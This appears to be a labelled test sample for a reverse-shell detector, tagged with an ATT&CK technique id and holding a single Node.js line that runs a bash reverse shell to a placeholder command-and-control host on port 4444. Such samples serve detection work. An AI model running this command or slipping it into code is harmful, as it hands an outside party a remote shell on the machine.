// expect: reverse-shell | source: T1059.004
require("child_process").exec("bash -i >& /dev/tcp/c2.example.invalid/4444 0>&1");
